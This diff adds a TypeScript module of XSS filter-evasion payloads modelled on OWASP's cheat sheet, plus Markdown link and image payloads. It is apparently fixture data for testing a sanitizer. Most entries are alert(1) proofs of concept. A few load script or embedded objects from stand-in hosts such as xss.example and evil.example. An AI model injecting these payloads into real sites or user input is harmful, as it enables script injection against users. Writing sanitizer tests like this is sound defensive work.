@@ -1,0 +1,56 @@
+/**
+ * XSS payloads in the style of OWASP's filter-evasion cheat sheet: mixed
+ * case, entities, broken tags, SVG, protocol tricks, event handlers,
+ * style/iframe/object/embed, and `</script>` breaking out of a script block.
+ */
+export const XSS_PAYLOADS: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '</script><script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '<IMG SRC="javascript:alert(\'XSS\');">',
+  '<IMG SRC=JaVaScRiPt:alert(1)>',
+  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
+  '<IMG SRC="jav&#x09;ascript:alert(1);">',
+  '<a href="javascript&colon;alert(1)">colon</a>',
+  '<a href=" &#14; javascript:alert(1)">leading space</a>',
+  '<a href="vbscript:msgbox(1)">vb</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<div onmouseover="alert(1)">hover</div>',
+  '<<SCRIPT>alert(1);//<</SCRIPT>',
+  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<iframe src=javascript:alert(1)>',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<style>body{background:url("javascript:alert(1)")}</style>',
+  '<div style="background-image:url(javascript:alert(1))">styled</div>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<details open ontoggle=alert(1)>',
+  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">dec</a>',
+  '{{ 7 * 7 }} {% raw %}',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '\u2028</script>\u2029',
+];
+
+/** Markdown-syntax payloads for the body (links and images with dangerous URLs). */
+export const MARKDOWN_PAYLOADS: readonly string[] = [
+  '[click](javascript:alert(1))',
+  '[click](JAVASCRIPT:alert(1))',
+  '[click](javascript&colon;alert(1))',
+  '[click](vbscript:msgbox(1))',
+  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '![img](javascript:alert(1))',
+  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+  '[ref][x]\n\n[x]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '[a](<javascript:alert(1)>)',
+];
